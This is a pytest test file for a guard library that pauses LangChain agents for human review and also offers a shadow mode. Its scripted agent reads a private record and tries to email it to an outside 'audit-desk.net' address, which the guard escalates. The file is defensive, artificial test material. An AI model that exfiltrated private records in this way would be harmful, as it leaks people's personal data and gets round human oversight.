"""Human review with LangChain's HITL conventions and the adapters' shadow mode."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

pytest.importorskip("langchain")

from langchain.agents import create_agent
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from guard import Guard, load_policy
from guard.adapters.langchain import GuardMiddleware, GuardToolWrapper
from guard.adapters.langchain_testing import ScriptedChatModel, tool_call
from guard.audit import MemoryAudit
from guard.report.model import views_from_audit
from tests.adapters.test_binding_langchain import READ, assert_bound, entries
from tests.adapters.test_langchain import EXFIL, POLICY, RECORD, TASK, leak_script

ALL = ["approve", "edit", "reject", "respond"]
SECOND = tool_call("send_email", {"to": "x@audit-desk.net", "subject": "Copy", "body": RECORD}, "c5")


def make_guard(**kwargs: Any) -> Guard:
    return Guard(load_policy(POLICY), threshold=0.5, audit=MemoryAudit(), **kwargs)


def agent_for(guard: Guard, spies: list[Any], turns: list[AIMessage], **kw: Any) -> Any:
    return create_agent(
        ScriptedChatModel(responses=turns),
        spies,
        middleware=[GuardMiddleware(guard, **kw)],
        checkpointer=InMemorySaver(),
    )


def reviews(guard: Guard) -> list[dict[str, Any]]:
    return [e for e in entries(guard) if e.get("kind") == "review"]


def test_interrupt_carries_features_redacted_sources_and_threshold(spies, received) -> None:
    """The reviewer sees the fired features, the threshold and the path's records, private text redacted."""
    guard = make_guard()
    agent = agent_for(guard, spies, leak_script())
    paused = agent.invoke({"messages": [HumanMessage(TASK)]}, {"configurable": {"thread_id": "ctx"}})
    (pending,) = paused["__interrupt__"]
    (request,) = pending.value["action_requests"]
    info = request["guard"]
    assert info["threshold"] == 0.5 and "provenance_path" in info["features"]
    assert request["allowed_decisions"] == ["approve", "edit", "reject", "respond"]
    assert pending.value["review_configs"] == [{"action_name": "send_email", "allowed_decisions": ALL}]
    private = [s for s in info["sources"] if s["private"]]
    assert private and all(s["text"] == "[redacted]" for s in private)
    assert "DE44500105175407324931" not in json.dumps(info)


def test_approve_is_an_audit_entry_and_the_report_does_not_count_it_as_a_refusal(spies, received) -> None:
    """approve: the call runs once, a review entry names who/what/when; the report counts no refused episode."""
    guard = make_guard()
    agent = agent_for(guard, spies, leak_script())
    config = {"configurable": {"thread_id": "ok", "user_id": "alice"}}
    agent.invoke({"messages": [HumanMessage(TASK)]}, config)
    agent.invoke(Command(resume={"type": "approve"}), config)
    assert [n for n, _ in received].count("send_email") == 1
    (review,) = reviews(guard)
    assert review["answer"] == "approve" and review["reviewer"] == "alice" and review["call_id"] == "c4"
    assert review["decision"]["verdict"] == "escalate" and isinstance(review["ts"], float)
    (view,) = views_from_audit(entries(guard))
    assert view.stop is None
    (decision,) = [d for d in view.decisions if d.call_id == "c4"]
    assert decision.review is not None and decision.review.startswith("approve by alice at ") and not decision.refused
    assert_bound(guard, received)


def test_reject_is_audited_and_stays_a_refusal(spies, received) -> None:
    """reject: nothing runs, the review entry is written, and the report still shows a refusal."""
    guard = make_guard()
    agent = agent_for(guard, spies, leak_script())
    config = {"configurable": {"thread_id": "no"}}
    agent.invoke({"messages": [HumanMessage(TASK)]}, config)
    agent.invoke(Command(resume={"type": "reject", "message": "no", "reviewer": "bob"}), config)
    assert "send_email" not in [n for n, _ in received]
    assert [(r["answer"], r["reviewer"]) for r in reviews(guard)] == [("reject", "bob")]
    (view,) = views_from_audit(entries(guard))
    assert view.stop is not None and view.stop.call_id == "c4"


def test_respond_answers_for_the_tool_without_running_it(spies, received) -> None:
    """respond: the model gets the human's text as a successful result; the tool does not run."""
    guard = make_guard()
    agent = agent_for(guard, spies, leak_script())
    config = {"configurable": {"thread_id": "resp"}}
    agent.invoke({"messages": [HumanMessage(TASK)]}, config)
    out = agent.invoke(Command(resume={"type": "respond", "message": "I will send it myself."}), config)
    assert "send_email" not in [n for n, _ in received]
    (answer,) = [m for m in out["messages"] if isinstance(m, ToolMessage) and m.tool_call_id == "c4"]
    assert answer.status == "success" and answer.text == "I will send it myself."
    assert [r["answer"] for r in reviews(guard)] == ["respond"]


def test_edit_is_decided_again_on_the_new_arguments(spies, received) -> None:
    """edit to a harmless send: decided again (new call id), runs with exactly the edited arguments."""
    guard = make_guard()
    agent = agent_for(guard, spies, leak_script())
    config = {"configurable": {"thread_id": "edit"}}
    agent.invoke({"messages": [HumanMessage(TASK)]}, config)
    safe = {"to": "lena.novak@example.com", "subject": "Record", "body": "Your record is on file."}
    edit = {"type": "edit", "edited_action": {"name": "send_email", "args": safe}}
    agent.invoke(Command(resume=edit), config)
    assert ("send_email", safe) in received and ("send_email", EXFIL["args"]) not in received
    (review,) = reviews(guard)
    assert review["answer"] == "edit" and review["edited_call_id"].startswith("c4~")
    decided = [e for e in entries(guard) if e["call_id"] == review["edited_call_id"] and "verdict" in e]
    assert [e["verdict"] for e in decided] == ["execute"]
    assert_bound(guard, received)


def test_edit_that_still_leaks_is_escalated_again(spies, received) -> None:
    """edit that keeps the record in the body: decided again, escalated again, nothing is sent."""
    guard = make_guard()
    agent = agent_for(guard, spies, leak_script())
    config = {"configurable": {"thread_id": "edit2"}}
    agent.invoke({"messages": [HumanMessage(TASK)]}, config)
    leak = {"to": "other@audit-desk.net", "subject": "Record", "body": RECORD}
    out = agent.invoke(Command(resume={"type": "edit", "edited_action": {"name": "send_email", "args": leak}}), config)
    (again,) = out["__interrupt__"]
    assert again.value["action_requests"][0]["args"] == leak
    agent.invoke(Command(resume={again.id: {"type": "reject"}}), config)
    assert "send_email" not in [n for n, _ in received]


TWO_SENDS = [
    AIMessage(content="", tool_calls=[READ]),
    AIMessage(content="", tool_calls=[EXFIL, SECOND]),
    AIMessage(content="done"),
]


def paused_on_two(guard: Guard, spies: list[Any], thread: str) -> tuple[Any, dict[str, Any], Any]:
    """An agent paused on its turn of two escalated sends (c4, c5): (agent, config, the one interrupt)."""
    agent = agent_for(guard, spies, TWO_SENDS)
    config = {"configurable": {"thread_id": thread}}
    paused = agent.invoke({"messages": [HumanMessage(TASK)]}, config)
    (pending,) = paused["__interrupt__"]
    return agent, config, pending


@pytest.mark.parametrize("use_async", [False, True])
@pytest.mark.parametrize("form", ["list", "by_call", "by_interrupt_id"])
def test_two_escalations_of_one_turn_are_one_interrupt_approve_one_reject_the_other(
    spies, received, use_async: bool, form: str
) -> None:
    """One interrupt lists both escalated sends; approving c4 and rejecting c5 runs exactly c4, once.

    Catches one interrupt per call (resuming as the README shows raised LangGraph's "multiple
    pending interrupts"), a rejected call that runs, and an approved call that runs twice or with
    other arguments.
    """
    guard = make_guard()
    agent = agent_for(guard, spies, TWO_SENDS)
    config = {"configurable": {"thread_id": f"batch-{use_async}-{form}"}}
    approve, reject = {"type": "approve", "reviewer": "ann"}, {"type": "reject", "message": "no"}

    def resume(paused: dict[str, Any]) -> Command:
        (pending,) = paused["__interrupt__"]
        ids = [r["tool_call_id"] for r in pending.value["action_requests"]]
        assert ids == ["c4", "c5"] and [c["action_name"] for c in pending.value["review_configs"]] == ["send_email"] * 2
        if form == "list":
            return Command(resume={"decisions": [approve, reject]})
        if form == "by_call":
            return Command(resume={"decisions": {"c5": reject, "c4": approve}})
        return Command(resume={pending.id: {"decisions": [approve, reject]}})

    async def go() -> dict[str, Any]:
        return await agent.ainvoke(resume(await agent.ainvoke({"messages": [HumanMessage(TASK)]}, config)), config)

    def go_sync() -> dict[str, Any]:
        return agent.invoke(resume(agent.invoke({"messages": [HumanMessage(TASK)]}, config)), config)

    out = asyncio.run(go()) if use_async else go_sync()
    assert [a for n, a in received if n == "send_email"] == [EXFIL["args"]]
    results = {m.tool_call_id: m for m in out["messages"] if isinstance(m, ToolMessage)}
    assert results["c4"].status == "success" and results["c5"].status == "error" and "no" in results["c5"].text
    assert sorted((r["call_id"], r["answer"]) for r in reviews(guard)) == [("c4", "approve"), ("c5", "reject")]
    assert_bound(guard, received)


def test_a_bare_decision_for_two_escalations_fails_closed_then_can_be_answered(spies, received) -> None:
    """The README's single ``Command(resume={"type": ...})`` with two pending calls: a clear error, nothing runs.

    Catches applying one bare answer to every call of the turn (or to the first only); the same
    interrupt can then be answered properly.
    """
    from pydantic import ValidationError

    guard = make_guard()
    agent, config, _ = paused_on_two(guard, spies, "bare")
    with pytest.raises(ValidationError, match="2 escalated calls"):
        agent.invoke(Command(resume={"type": "approve"}), config)
    assert "send_email" not in [n for n, _ in received] and not reviews(guard)
    agent.invoke(Command(resume={"decisions": [{"type": "reject"}, {"type": "reject"}]}), config)
    assert "send_email" not in [n for n, _ in received]
    assert [r["answer"] for r in reviews(guard)] == ["reject", "reject"]


@pytest.mark.parametrize(
    ("answer", "error"),
    [
        ({"decisions": [{"type": "approve"}]}, "1 decisions for 2 escalated calls"),
        ({"decisions": [{"type": "approve"}] * 3}, "3 decisions for 2 escalated calls"),
        ({"decisions": {"c4": {"type": "approve"}}}, r"missing \['c5'\]"),
        ({"decisions": {"c4": {"type": "approve"}, "c5": {"type": "reject"}, "c9": {"type": "approve"}}}, "c9"),
        ({"decisions": [{"type": "approve"}, {"type": "allow"}]}, "unknown decision type 'allow'"),
        ({"decisions": [{"type": "approve"}, "yes"]}, "must be a mapping"),
        ({"decisions": [{"type": "approve"}, {"type": "respond"}]}, "needs a 'message'"),
        ({"decisions": [{"type": "approve"}, {"type": "edit", "edited_action": {"name": "send_email"}}]}, "edit"),
        ({"decisions": [{"type": "approve"}, {"type": "reject"}], "also": 1}, "unknown keys"),
        ("approve", "must be a mapping"),
    ],
)
def test_missing_extra_or_unknown_decisions_fail_closed(spies, received, answer: Any, error: str) -> None:
    """A resume value that does not answer exactly c4 and c5 raises naming the problem; nothing runs or is approved.

    Catches zipping a short/long list (an unanswered call left to run or a stray approval), an
    unknown call id or decision type taken as approve (or silently as reject), and a malformed edit.
    """
    from pydantic import ValidationError

    guard = make_guard()
    agent, config, _ = paused_on_two(guard, spies, f"bad-{error}")
    with pytest.raises(ValidationError, match=error):
        agent.invoke(Command(resume=answer), config)
    assert "send_email" not in [n for n, _ in received] and not reviews(guard)  # no review entry: nothing approved


def test_edit_of_one_and_approve_of_the_other_in_one_turn(spies, received) -> None:
    """edit c4 to a harmless send, approve c5: c4 runs with the edited arguments, c5 with its own, each once."""
    guard = make_guard()
    agent, config, _ = paused_on_two(guard, spies, "edit-approve")
    safe = {"to": "lena.novak@example.com", "subject": "Record", "body": "Your record is on file."}
    edit = {"type": "edit", "edited_action": {"name": "send_email", "args": safe}}
    agent.invoke(Command(resume={"decisions": [edit, {"type": "approve"}]}), config)
    assert sorted(json.dumps(a, sort_keys=True) for n, a in received if n == "send_email") == sorted(
        json.dumps(a, sort_keys=True) for a in (safe, SECOND["args"])
    )
    assert_bound(guard, received)


# --------------------------------------------------------------------------- shadow mode


def visible(out: dict[str, Any]) -> list[tuple[Any, ...]]:
    """What the agent sees: each message's type, text, tool calls, tool call id and status."""
    return [
        (
            m.type,
            m.text,
            [(c["name"], c["args"], c["id"]) for c in getattr(m, "tool_calls", []) or []],
            getattr(m, "tool_call_id", None),
            getattr(m, "status", None),
        )
        for m in out["messages"]
    ]


@pytest.mark.parametrize("use_async", [False, True])
def test_shadow_middleware_changes_nothing_the_agent_sees(spies, received, use_async: bool) -> None:
    """mode="shadow": the same messages as a run without the guard, every call decided and audited."""
    plain = create_agent(ScriptedChatModel(responses=leak_script()), spies)
    guard = make_guard()
    shadow = create_agent(
        ScriptedChatModel(responses=leak_script()), spies, middleware=[GuardMiddleware(guard, mode="shadow")]
    )
    state = {"messages": [HumanMessage(TASK, id="h1")]}
    run = (lambda a: asyncio.run(a.ainvoke(state))) if use_async else (lambda a: a.invoke(state))
    bare, watched = run(plain), run(shadow)
    assert visible(bare) == visible(watched)
    verdicts = [e["verdict"] for e in entries(guard)]
    assert verdicts == ["execute", "execute", "execute", "escalate"]  # the leak was decided escalate, and ran


def test_shadow_and_enforcing_decisions_are_identical_on_the_same_prefixes(spies, received) -> None:
    """Feeding the shadow run's history to an enforcing guard gives the same decision for every call."""
    guard = make_guard()
    shadow_mw = GuardMiddleware(guard, mode="shadow")
    agent = create_agent(ScriptedChatModel(responses=leak_script()), spies, middleware=[shadow_mw])
    out = agent.invoke({"messages": [HumanMessage(TASK, id="h1")]})
    enforcing, config = GuardToolWrapper(make_guard()), {"configurable": {"thread_id": "replay"}}
    enforcing.declare_input(config, out["messages"][:1])  # the run's input, as the shadow run's before_agent saw it
    tracker, _ = enforcing.sync(config, out["messages"])
    shadow_session = shadow_mw.session("run:h1")
    assert shadow_session is not None and shadow_session.guard.mode == "shadow"
    pairs = [(d.tool, d.verdict, d.score) for d in shadow_session.decisions.values()]
    assert pairs == [(d.tool, d.verdict, d.score) for d in tracker.session.decisions.values()]
    assert guard.mode == "enforce"  # the caller's guard is not changed; the middleware uses a shadow copy


def test_shadow_never_interrupts_or_probes(spies, received) -> None:
    """Shadow with a checkpointer: no interrupt, the escalated send runs (shadow never blocks)."""
    guard = make_guard()
    agent = agent_for(guard, spies, leak_script(), mode="shadow")
    out = agent.invoke({"messages": [HumanMessage(TASK)]}, {"configurable": {"thread_id": "sh"}})
    assert "__interrupt__" not in out and "send_email" in [n for n, _ in received]


def test_each_human_answer_is_recorded_once_across_resumes(spies, received) -> None:
    """edit → escalated again → reject: the resumed node re-runs, yet each answer is one review entry."""
    guard = make_guard()
    agent = agent_for(guard, spies, leak_script())
    config = {"configurable": {"thread_id": "once"}}
    agent.invoke({"messages": [HumanMessage(TASK)]}, config)
    leak = {"to": "other@audit-desk.net", "subject": "Record", "body": RECORD}
    out = agent.invoke(Command(resume={"type": "edit", "edited_action": {"name": "send_email", "args": leak}}), config)
    agent.invoke(Command(resume={out["__interrupt__"][0].id: {"type": "reject"}}), config)
    assert [r["answer"] for r in reviews(guard)] == ["edit", "reject"]


def test_an_approval_that_cannot_be_audited_approves_nothing() -> None:
    """Session.review: when the review entry cannot be written, AuditError and the escalated call stays refused."""
    from guard.errors import AuditError, BindingError

    class Failing(MemoryAudit):
        def write(self, entry: Any) -> None:
            if entry.get("kind") == "review":
                raise OSError("disk full")
            super().write(entry)

    guard = Guard(load_policy(POLICY), threshold=0.5, audit=Failing())
    session = guard.session("fail")
    session.observe_user(TASK)
    session.decide("read_record", {"name": "Lena Novak"}, "c1")
    session.authorize("c1", "read_record", {"name": "Lena Novak"})
    session.observe_result("c1", RECORD)
    assert not session.decide(EXFIL["name"], EXFIL["args"], "c4").allowed
    with pytest.raises(AuditError):
        session.review("c4", "approve", reviewer="alice")
    with pytest.raises(BindingError):
        session.authorize("c4", EXFIL["name"], EXFIL["args"])


def test_an_unknown_mode_is_a_policy_error_in_every_adapter() -> None:
    """Catches an adapter that answers a mode typo with a bare ValueError where Guard raises PolicyError."""
    from guard.adapters._shadow import guard_in_mode
    from guard.errors import PolicyError

    guard = make_guard()
    with pytest.raises(PolicyError, match="mode must be one of"):
        Guard(guard.policy, threshold=0.5, mode="shadw")
    for build in (
        lambda: guard_in_mode(guard, "shadw"),
        lambda: GuardToolWrapper(guard, mode="shadw"),
        lambda: GuardMiddleware(guard, mode="shadw"),
    ):
        with pytest.raises(PolicyError, match="mode must be one of"):
            build()
    from guard.adapters.agentdojo import GuardElement

    with pytest.raises(PolicyError, match="mode must be 'abort'"):
        GuardElement(guard, mode="shadw")  # type: ignore[arg-type]
